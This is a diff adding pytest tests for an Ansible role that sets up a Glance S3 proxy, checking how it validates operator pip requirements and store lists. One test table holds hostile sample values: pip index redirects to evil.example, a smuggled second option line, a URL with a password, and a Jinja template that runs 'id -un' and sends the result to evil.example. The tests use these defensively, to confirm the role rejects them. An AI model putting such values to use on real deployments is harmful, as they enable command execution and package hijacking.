@@ -471,6 +471,30 @@ def test_url_requirement_is_used_as_given_and_no_wheel_is_copied(site):
     assert [p for p in seen['pip'] if 's3proxy' in p] == [url]
 
 
+BAD_PIP_PACKAGES = {
+    'another package': 'requests',
+    'pip option': 'glance-store-s3proxy==1.2.0 --index-url http://evil.example/simple',
+    'second line': 'glance-store-s3proxy==1.2.0\n--extra-index-url http://evil.example/simple',
+    'credentials': 'glance-store-s3proxy @ https://user:S3cretPipPw@mirror.example.com/wheels/%s' % WHEEL,
+    'jinja': "glance-store-s3proxy @ https://evil.example/{{ lookup('pipe', 'id -un') }}.whl",
+    'marker': 'glance-store-s3proxy==1.2.0; python_version > "3"',
+}
+
+
+@pytest.mark.parametrize('case', sorted(BAD_PIP_PACKAGES))
+def test_a_pip_requirement_pip_would_read_otherwise_stops_the_role(site, case):
+    """O1: os_glance hands the value to pip as one requirement line on the repo servers and the glance hosts."""
+    path = site.write_role_vars([FAST])
+    with open(str(path), 'a') as f:  # !unsafe, as an operator keeps a literal value (else Ansible templates it)
+        f.write('glance_s3_proxy_osa_pip_package: !unsafe %s\n' % json.dumps(BAD_PIP_PACKAGES[case]))
+    proc = site.run_role(repo_hosts=())
+    assert proc.returncode != 0
+    assert 'glance_s3_proxy_osa_pip_package must be' in proc.stdout and 'nothing was changed' in proc.stdout, \
+        proc.stdout
+    assert 'S3cretPipPw' not in proc.stdout and 'evil.example' not in proc.stdout
+    assert not site.own_file.exists()
+
+
 # --- O2: OpenStack-Ansible's stores stay ------------------------------------------------------------------------
 
 @pytest.mark.parametrize('swift', [False, True], ids=['file', 'swift'])
@@ -540,6 +564,13 @@ OPERATOR_DEFINITIONS = {
                               'glance_default_store'),
     'conf.d': ('conf.d/glance.yml', 'glance_hosts:\n  infra1:\n    container_vars:\n'
                                     '      glance_user_pip_packages: [foo]\n', 'glance_user_pip_packages'),
+    # osa_toolkit reads conf.d recursively, .yml and .yaml
+    'conf.d yaml': ('conf.d/extra/glance.yaml', 'global_overrides:\n  glance_default_store: rbd\n',
+                    'glance_default_store'),
+    'group_vars json': ('group_vars/glance_all.json', '{\n  "glance_additional_stores": []\n}\n',
+                        'glance_additional_stores'),
+    'flow mapping': ('group_vars/glance_all/main.yml', '{debug: false, glance_additional_stores: []}\n',
+                     'glance_additional_stores'),
 }
 
 
@@ -587,6 +618,31 @@ def test_operator_lists_that_refer_to_the_roles_variables_are_kept(site, order):
     assert 'python-ironicclient' in seen['pip'] and 'glance-store-s3proxy==1.2.0' in seen['pip']
     read = oslo_read(conf, [('second', 's3_store_secret_key')])
     assert read['default_backend'] == 'fast' and read[('second', 's3_store_secret_key')] == 'SK2'
+
+
+def test_the_previous_default_store_stays_when_the_operator_adds_the_roles_list(site):
+    """O2: the operator keeps their own list and adds the role's: OpenStack-Ansible's previous default (file) is
+    in the role's list, so it stays beside the S3 stores."""
+    site.operator_file('user_variables.yml', """\
+        glance_additional_stores: "{{ [{'name': 'rbd', 'type': 'rbd'}] + glance_s3proxy_osa_additional_stores }}"
+        """)
+    site.write_role_vars([FAST, SECOND])
+    proc = site.run_role()
+    assert proc.returncode == 0, proc.stdout
+    seen, _conf = site.run_osa()
+    assert [(s['name'], s['type']) for s in seen['stores']] == [
+        ('fast', 's3'), ('rbd', 'rbd'), ('file', 'file'), ('second', 's3')]
+
+
+def test_a_mention_of_the_roles_variable_in_another_file_is_no_reference(site):
+    """O3: only a definition that names the role's variable in its own file adds to it."""
+    site.operator_file('user_variables.yml', 'glance_additional_stores: [{name: rbd, type: rbd}]\n')
+    site.operator_file('user_notes.yml', '# later: glance_s3proxy_osa_additional_stores\nnotes: true\n')
+    site.write_role_vars([FAST, SECOND])
+    proc = site.run_role()
+    assert proc.returncode != 0
+    assert 'sets glance_additional_stores' in proc.stdout, proc.stdout
+    assert not site.own_file.exists()
 
 
 def test_vaulted_variable_files_are_named(site):
